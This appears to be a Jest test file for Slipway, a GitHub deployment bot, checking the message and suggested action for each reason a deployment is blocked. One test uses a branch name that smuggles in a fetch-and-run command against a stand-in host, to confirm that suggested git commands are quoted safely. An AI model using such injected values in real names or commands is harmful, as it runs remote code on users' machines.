import { expect, test } from "@jest/globals";
import { explain } from "../../src/cards/explain.ts";
import { type Reason, type ReasonFacts, reasons } from "../../src/domain/reasons.ts";
import { aBecause } from "../builders/because.ts";
import { aContextLink } from "../builders/context.ts";
import { read } from "./read.ts";

/** Of every reason: what is said, what to do about it, and what is told one by one. */
const says: { readonly [R in Reason]: readonly [what: string, todo: string, ...items: readonly string[]] } = {
  permission: ["`eve` has the role `read` here, and `staging` needs `write`.", "Ask somebody with that role."],
  permission_unknown: ["GitHub did not say what `eve` may do here.", "Comment again."],
  team_unknown: [
    "GitHub did not say whether `eve` is in a team that may (Resource not accessible by integration).",
    "Comment again; if this stays, see that the App may read the members of the organisation.",
  ],
  override: [
    "`ada` has the role `write` here, and `--force` needs `admin`.",
    "Comment again without it, or ask somebody with that role.",
  ],
  pull_request_closed: ["This pull request is closed.", "Reopen it, then comment again."],
  pull_request_draft: ["This pull request is a draft.", "Mark it ready for review, then comment again."],
  base_not_default: [
    "It goes into `release/1`, and only what goes into the default branch `main` is deployed.",
    "Change the base to `main`, then comment again.",
  ],
  branch_deleted: ["The branch `topic` is gone.", "Restore the branch, then comment again."],
  executor_missing: [
    "The executor `web1` of `production` is none that this Slipway has for this repository and environment.",
    "Ask Slipway's operator to define it, or a maintainer to name another in `slipway.yml`; then comment again.",
  ],
  executor_needs_branch: [
    "`deploy.yml` is to be run as it is in what is deployed, and GitHub runs workflows of the repository's own branches and tags, not of `a1b2c3d`.",
    "Ask a maintainer to take `ref: head` out of the executor: then the default branch's copy is run.",
  ],
  sealed_not_taken: [
    "`API_KEY` would have to be opened for a workflow, where everybody who can read the repository could read it.",
    "Leave it out, or ask a maintainer to give `staging` an executor of the operator's.",
  ],
  sealed_unopened: [
    "The value for `API_KEY` was sealed for another repository, environment or name than `API_KEY` in `production` here, or was changed.",
    "Seal the value for this repository, `production` and `API_KEY`, then comment again.",
  ],
  repository_archived: ["`acme/site` is archived.", "Unarchive it, then comment again."],
  fork: [
    "`topic` is the branch of a fork, and code from forks is not deployed here.",
    "Push the commits to a branch of this repository and open a pull request from it.",
  ],
  fork_by_sha: [
    "`topic` is the branch of a fork, and its code is deployed here only by its full sha.",
    "Look at the code, then comment `/deploy a1b2c3d4e5f60718293a4b5c6d7e8f9012345678 to staging`.",
  ],
  commit_of_nobody: [
    "`a1b2c3d` is on no branch or tag that is deployed here, and no open pull request of this repository has it as its head.",
    "Name the branch that has it, or push it to a branch of this repository and open a pull request from it.",
  ],
  ref_not_taken: [
    "`production` does not take `spike`: it takes pull requests, `main`, tags `v*`.",
    "Deploy one of these, or ask a maintainer to add it to `refs`.",
  ],
  ref_unreviewed: [
    "`main` has no open pull request, and this environment asks for reviews, which only a pull request has.",
    "Open a pull request from it, then comment there.",
  ],
  head_moved: [
    "The head moved from `a1b2c3d` to `0f1e2d3` while this request waited.",
    "Look at what was pushed, then comment again.",
  ],
  head_after_comment: [
    "`a1b2c3d` was pushed at 12:00 UTC on 2 Mar, after the comment was written.",
    "Look at what was pushed, then comment again.",
  ],
  head_unknown: [
    "GitHub did not say when `a1b2c3d` was pushed, so it may be later than the comment.",
    "Comment again; if this stays, push the branch once more.",
  ],
  merge_unseen: ["GitHub merged `main` in; the new head does not show yet.", "Nothing: it goes on by itself."],
  environment_busy: ["Deployment `#4300` to `staging` is running (pull request 8).", "Nothing: it goes on by itself."],
  head_young: ["`a1b2c3d` is only seconds old: its checks may be on their way.", "Nothing: it goes on by itself."],
  contexts_failing: [
    "Failing: [`ci/lint`](https://github.test/acme/site/runs/1) (timed out), `ci/test` (failure).",
    "Fix what fails or run it again, then comment again.",
  ],
  contexts_pending: [
    "Pending: [`ci/test`](https://github.test/acme/site/runs/1) (in progress). Expected, not reported yet: `ci/docs`, `ci/e2e`.",
    "Nothing: it goes on by itself.",
  ],
  contexts_disagree: ["GitHub still reports `ci/test` (pending).", "Nothing: it goes on by itself."],
  behind_unknown: ["GitHub did not say whether the branch is behind `main`.", "Comment again."],
  behind: [
    "The branch lacks 3 commits of `main`, and this environment takes none that is behind.",
    "Bring `main` in, as the button **Update branch** does, then comment again.",
  ],
  review_required: [
    "This takes 2 approving reviews of the newest commit, and it has 1 (by `mia`).",
    "Ask somebody who may write here, and is not the author, to approve the newest commit; then comment again.",
  ],
  changes_requested: ["`mia` asked for changes.", "Settle it with them; when they have approved, comment again."],
  unsigned: [
    "`a1b2c3d` has no signature that GitHub could verify.",
    "Sign it (`git commit --amend --no-edit --gpg-sign`), push it, then comment again.",
  ],
  order: [
    "`a1b2c3d` has not succeeded yet in `staging`.",
    "First comment `/deploy staging`; when that has succeeded, comment again.",
  ],
  order_waits: ["It comes after `staging`, to which the same comment deploys first.", "Nothing: it goes on by itself."],
  order_behind: [
    "The branch is behind `main`: merged, its code would be new to `staging`.",
    "Bring `main` in, as the button **Update branch** does, and comment `/deploy staging`; when that has succeeded, comment again.",
  ],
  freeze: [
    "Frozen until 08:00 on Mon 2 Mar (Asia/Tokyo), 23:00 UTC on 1 Mar: weekend.",
    "Nothing: it goes on by itself.",
  ],
  timer: ["The environment's wait timer on GitHub runs out at 12:30 UTC on 2 Mar.", "Nothing: it goes on by itself."],
  approvals_missing: [
    "This takes 2 approvals of others who may deploy here, and it has 1 (by `mia`).",
    "Ask them to comment `/approve`.",
  ],
  nothing_to_approve: [
    "Nothing waits for approvals for production.",
    "Say it again while a card says that it waits for them.",
  ],
  approve_which: [
    "More than one deployment waits for approvals: to `staging`, `production`.",
    "Say which: `/approve staging`, `/approve production`.",
  ],
  approver_not_another: [
    "`ada` asked for this deployment, and approvals are other people's.",
    "Ask somebody else who may deploy here.",
  ],
  approver_unlisted: [
    "`production` takes approvals of `mia`, `acme/sre`, and `ada` is none of them.",
    "Ask one of them.",
  ],
  approved_already: [
    "`mia` has approved it already, and one person counts once.",
    "Ask somebody else who may deploy here.",
  ],
  pusher_unknown: [
    "GitHub did not say who pushed `a1b2c3d`, so it may have been `mia`: who pushed last cannot approve.",
    'Comment again; if this stays, ask somebody who may override to deploy with `--force --reason "…"`.',
  ],
  rejected: [
    "`mia` [rejected](https://github.test/acme/site/pull/7#issuecomment-503) it: not on a Friday.",
    "Settle it with them, then comment again.",
  ],
  locked: [
    "`production` is [locked](https://github.test/acme/site/pull/8#issuecomment-490) for pull request 8 since 11:00 UTC on 2 Mar by `ben`, until 15:00 UTC on 2 Mar: demo at three.",
    'Ask there for `/unlock production`, or ask somebody who may override to comment `/unlock production --force --reason "…"`.',
  ],
  not_locked: ["`production` is not locked.", "Nothing; to hold it for this pull request, comment `/lock production`."],
  replaced: [
    "A [later comment](https://github.test/acme/site/pull/8#issuecomment-503) on pull request 8 took its place: only one request waits for this environment.",
    "Comment again.",
  ],
  merge_rounds: ["`main` moved on after each of 3 merges into this branch.", "Comment again when `main` is quieter."],
  merge_conflict: [
    "`main` does not merge into `topic` without conflicts.",
    "Merge it by hand: `git fetch origin`, `git switch topic`, `git merge origin/main`, solve the conflicts and commit, `git push`. Then comment again.",
  ],
  ref_not_found: [
    "GitHub finds no ref `topic`.",
    "See that its name is right and that it was not deleted, then comment again.",
  ],
  config_broken: [
    "[`.github/slipway.yml`](https://github.test/acme/site/blob/main/.github/slipway.yml) has mistakes.",
    "Fix the file on the default branch, then comment again.",
    '[line 4, column 5](https://github.test/acme/site/blob/main/.github/slipway.yml#L4): unknown key "aproval": did you mean "approvals"? Allowed here: url, production',
    '[line 9, column 17](https://github.test/acme/site/blob/main/.github/slipway.yml#L9): "production" must be true or false, not the text "yes": write true',
  ],
  config_unreadable: [
    "The configuration could not be read (.github/slipway.yml is not text).",
    "See that it is a text file that the App may read, then comment again.",
  ],
  environment_unknown: [
    "There is no environment `stagin`: did you mean `staging`?",
    "Name one of `staging`, `production`.",
  ],
  environment_unnamed: [
    "There is no default environment here, and the command names none.",
    "Name one of `qa`, `production`, or set `default_environment`.",
  ],
  environment_needed: ["The command names no environment.", "Name one of `qa`, `production`."],
  parameter_unknown: [
    "`production` has no parameter `log_levl`: did you mean `log_level`?",
    "Name one of `log_level`, `replicas`, or leave it out.",
  ],
  parameter_invalid: [
    "`replicas` must be a whole number from 1 to 20, not `many`.",
    "Comment again with such a value.",
  ],
  parameter_missing: [
    "`production` cannot do without the parameter `region`: it must be one of eu-1, us-1.",
    "Comment again with `region=…`.",
  ],
  sha_differs: [
    "GitHub created the deployment for `0f1e2d3`, but `a1b2c3d` is what was checked. It was ended as `error`.",
    "Look at what was pushed, then comment again.",
  ],
  superseded: [
    "A [later comment](https://github.test/acme/site/pull/7#issuecomment-502) asked for the same environment.",
    "Nothing.",
  ],
  cancelled: ["Cancelled by `ada`.", "Nothing."],
  nothing_to_cancel: ["Nothing waits or runs for staging.", "Nothing: what is over stays as it is."],
  cancel_which: [
    "More than one deployment waits or runs: to `staging`, `production`.",
    "Say which: `/cancel staging`, `/cancel production`.",
  ],
  not_yours: [
    "What waits or runs in `staging` belongs to pull request 8.",
    "Cancel it there, or comment `/cancel #4300` here.",
  ],
  nothing_runs: ["Nothing runs in `staging`.", "First comment `/deploy staging`."],
  nothing_to_roll_back: [
    "Nothing among the newest 250 that Slipway deployed to `production` before what runs there has succeeded.",
    "Comment `/history production` to see what there is.",
  ],
  never_succeeded: [
    "No deployment of `v1.4.2` that Slipway made has succeeded in `production`.",
    "Comment `/history production` to see what there is.",
  ],
  not_there: [
    "Deployment `#4301` is one to `staging`, not to `production`.",
    "Comment `/history production` to see what there is.",
  ],
  not_ours: [
    "Deployment `#4301` to `production` was made by `harbor`, not by Slipway: anybody who may write could have called it a success.",
    "Comment `/deploy production` to deploy what the gates let through, or `/history production` to see what there is.",
  ],
  runs_already: [
    "`a1b2c3d` is what runs in `production`, since deployment `#4301`.",
    "Nothing, or name another. Comment `/history production` to see what there is.",
  ],
  promote_which: [
    "`production` comes after `staging`, `qa`.",
    "Say from which: `/promote production from staging`, `/promote production from qa`.",
  ],
  task_unknown: ["There is no task `db:migrat`: did you mean `db:migrate`?", "There are `db:migrate`, `reindex`."],
  task_untold: [
    "`deploy.yml` has no input that tells it of `db:migrate`: it would deploy.",
    'Ask a maintainer to add `task: "{task}"` to the executor\'s `inputs`, and to the workflow what it does then.',
  ],
  task_needed: ["The command names no task.", "There are `db:migrate`, `reindex`."],
  task_elsewhere: ["The task `db:migrate` does not run on `production`.", "It runs on `staging`."],
  deadline: ["It waited 60 minutes, which is as long as this environment lets a request wait.", "Comment again."],
  unread: [
    "GitHub did not show the checks of the head (Resource not accessible by integration).",
    "Comment again; if this stays, see that the App has all its permissions.",
  ],
  setup: [
    "GitHub refused Slipway: Resource not accessible by integration.",
    "Ask an owner of the organisation, or who runs Slipway, to grant what is missing; then comment again.",
  ],
  github_refused: [
    "GitHub refused the deployment: Validation Failed.",
    "Comment again; if this stays, tell who runs Slipway.",
  ],
  github_unavailable: [
    "GitHub did not answer for as long as Slipway tries (`5f0c1d2e3a4b`).",
    "Look at the list of deployments, then comment again.",
  ],
  gate_failed: ["The gate `contexts` could not judge this.", "Comment again; if this stays, tell who runs Slipway."],
  internal: [
    "Something went wrong inside Slipway. Its log knows more under `5f0c1d2e3a4b`.",
    "Comment again; if this stays, tell who runs Slipway.",
  ],
};

test("every reason has its sentence here", () => {
  expect(Object.keys(says).sort()).toEqual(Object.keys(reasons).sort());
});

test.each(Object.keys(reasons) as Reason[])("the reason %s says what is the matter, and what to do", (reason) => {
  const { what, todo, items } = explain(aBecause(reason));
  expect([what, todo, ...items].map(read)).toEqual(says[reason]);
});

test.each(Object.keys(reasons) as Reason[])("the reason %s is a sentence, and names its gate", (reason) => {
  const { gate, what, todo } = explain(aBecause(reason));
  expect(gate).toBe(reasons[reason].gate);
  expect(read(what)).toMatch(/^[A-Z`[].*[.?]$/);
  expect(read(todo)).toMatch(/^[A-Z].*\.$/);
  expect(reasons[reason].means).toMatch(/^([A-Z]|slipway).*\.$/);
});

test("a full stop of GitHub's is not doubled", () => {
  const { what } = explain(aBecause("github_refused", { message: "Custom gate is on fire." }));
  expect(read(what)).toBe("GitHub refused the deployment: Custom gate is on fire.");
});

test("where much is failing, twenty are named and what is still pending, too", () => {
  const link = (index: number) => aContextLink({ name: `ci/${index}`, url: null });
  const failing = Array.from({ length: 5_000 }, (_, index) => link(index));
  const { what } = explain(aBecause("contexts_failing", { failing, pending: [aContextLink({ word: "queued" })] }));
  expect(read(what)).toMatch(
    /^Failing: `ci\/0` \(failure\), .*`ci\/19` \(failure\) and 4980 more\. Still pending: \[`ci\/test`/,
  );
});

test("what was waited for is told in whole minutes", () => {
  expect(read(explain(aBecause("deadline", { minutes: 1 })).what)).toMatch(/^It waited 1 minute, /);
});

test("an environment that is like no other has no suggestion", () => {
  const { what, todo } = explain(aBecause("environment_unknown", { name: "@all | x", nearest: null }));
  expect([read(what), read(todo)]).toEqual([
    "There is no environment `@all | x`.",
    "Name one of `staging`, `production`.",
  ]);
});

test("a merged pull request is not to be reopened", () => {
  const { what, todo } = explain(aBecause("pull_request_closed", { state: "merged" }));
  expect([read(what), read(todo)]).toEqual(["This pull request is merged.", "Deploy from an open pull request."]);
});

test("names of branches are safe to paste into a shell", () => {
  const conflict = aBecause("merge_conflict", { base: "main", head: "$(curl${IFS}evil.test|sh);it's" });
  expect(read(explain(conflict).todo)).toContain("`git switch '$(curl${IFS}evil.test|sh);it'\\''s'`");
});

test("a part that GitHub did not show has its reason in brackets", () => {
  const { what } = explain(aBecause("unread", { why: "it has more than 100 checks" }));
  expect(read(what)).toBe("GitHub did not show the checks of the head (it has more than 100 checks).");
});

const told = <R extends Reason>(reason: R, facts: Partial<ReasonFacts[R]>): readonly string[] => {
  const { what, todo } = explain(aBecause(reason, facts));
  return [what, todo].map(read);
};

const roleOnly = { actor: "eve", role: "read", environment: "production" };

test.each([
  [
    { ...roleOnly, needs: "maintain", listed: ["acme/sre", "ada"] },
    "`eve` has the role `read` here, and `production` needs `maintain`.",
    "Ask somebody with that role, or one of `acme/sre`, `ada`.",
  ],
  [
    { ...roleOnly, needs: null, listed: ["acme/sre"] },
    "`eve` has the role `read` here, and `production` is only for those whom it lists.",
    "Ask one of `acme/sre`.",
  ],
  [
    { ...roleOnly, needs: null, listed: [] },
    "`eve` has the role `read` here, and `production` is only for those whom it lists.",
    "Ask a maintainer.",
  ],
])("who may not deploy is told who may: %j", (facts, what, todo) => {
  expect(told("permission", facts)).toEqual([what, todo]);
});

test("of many who may, a few are named", () => {
  const listed = Array.from({ length: 100 }, (_, index) => `acme/team-${index}`);
  expect(told("permission", { listed })[1]).toMatch(/`acme\/team-4` and 95 more\.$/);
});

test("a fork's code is deployed with the command that the reason shows", () => {
  expect(told("fork_by_sha", { environment: "my env" })[1]).toContain(
    '`/deploy a1b2c3d4e5f60718293a4b5c6d7e8f9012345678 to "my env"`',
  );
});

test("an environment that takes nothing says so", () => {
  expect(told("ref_not_taken", { takes: [] })[0]).toBe("`production` does not take `spike`: it takes no ref at all.");
});

test("where nothing may wait, a running deployment is waited for by people", () => {
  expect(told("environment_busy", { rejects: true })).toEqual([
    "Deployment `#4300` to `staging` is running (pull request 8). No request may wait for it.",
    "When it is over, comment again.",
  ]);
  expect(told("environment_busy", { deployment: null })[0]).toBe(
    "Another deployment to `staging` is about to begin (pull request 8).",
  );
});

test("who waits behind others knows how many, and after whom", () => {
  const places = [2, 3, 4, 11, 21].map((place) => told("environment_busy", { place })[0]);
  expect(places).toEqual(
    ["2nd", "3rd", "4th", "11th", "21st"].map((nth) => `${nth} in line for \`staging\`: after pull request 8.`),
  );
});

test("what GitHub asks of reviews is said without a number", () => {
  expect(told("review_required", { needs: null, approvedBy: [] })[0]).toBe(
    "The base branch asks for more approving reviews than there are.",
  );
});

test("a head that lacks one review has none", () => {
  expect(told("review_required", { needs: 1, approvedBy: [] })[0]).toBe(
    "This takes 1 approving review of the newest commit, and it has 0.",
  );
});

test("what must succeed first is a command for each environment", () => {
  expect(told("order", { missing: ["qa", "my env"] })[1]).toBe(
    'First comment `/deploy qa`, `/deploy "my env"`; when that has succeeded, comment again.',
  );
});

test("a freeze that outlasts the request says what may be done about it", () => {
  expect(told("freeze", { tooLong: true, reason: "" })).toEqual([
    "Frozen until 08:00 on Mon 2 Mar (Asia/Tokyo), 23:00 UTC on 1 Mar.",
    'Comment again after that, or ask somebody who may override to comment with `--force --reason "…"`.',
  ]);
});

test("the maintainer's words for a freeze keep their one full stop", () => {
  expect(told("freeze", { timezone: "UTC", reason: "No. Really @all." })[0]).toBe(
    "Frozen until 23:00 UTC on Sun 1 Mar: No. Really @all.",
  );
});

test("approvals of certain people name a few of them", () => {
  expect(told("approvals_missing", { needs: 1, approvedBy: [], by: ["bea", "acme/sre"] })[0]).toBe(
    "This takes 1 approval of `bea`, `acme/sre`, and it has 0.",
  );
});

test("whoever has a part in what is deployed learns which", () => {
  expect(told("approver_not_another", { is: "author" })[0]).toContain("`ada` is the author of the pull request");
  expect(told("approver_not_another", { is: "pusher" })[0]).toContain("`ada` pushed `a1b2c3d`");
});

test("what cannot be approved says where it can be, or that it is too late", () => {
  expect(told("nothing_to_approve", { elsewhere: 8 })).toEqual([
    "What waits for production was asked for on pull request 8.",
    "Say it there.",
  ]);
  expect(told("nothing_to_approve", { what: "deployment #4300", isDeployment: true })[0]).toContain(
    "was created already, and approvals come before that.",
  );
});

test("a rejection without a reason has none", () => {
  expect(told("rejected", { reason: "" })[0]).toBe(
    "`mia` [rejected](https://github.test/acme/site/pull/7#issuecomment-503) it.",
  );
});

test("an environment without parameters says that there are none", () => {
  expect(told("parameter_unknown", { known: [], nearest: null })).toEqual([
    "`production` has no parameter `log_levl`.",
    "Leave it out: there are none.",
  ]);
});

test("a value that is nearly right is answered with what was meant", () => {
  const facts = { name: "log_level", value: "degub", must: "must be one of info, debug", nearest: "debug" };
  expect(told("parameter_invalid", facts)[0]).toBe(
    "`log_level` must be one of info, debug, not `degub`: did you mean `debug`?",
  );
});

test("what belongs to another pull request is cancelled there, where it has no deployment yet", () => {
  expect(told("not_yours", { deployment: null })[1]).toBe("Cancel it there.");
});
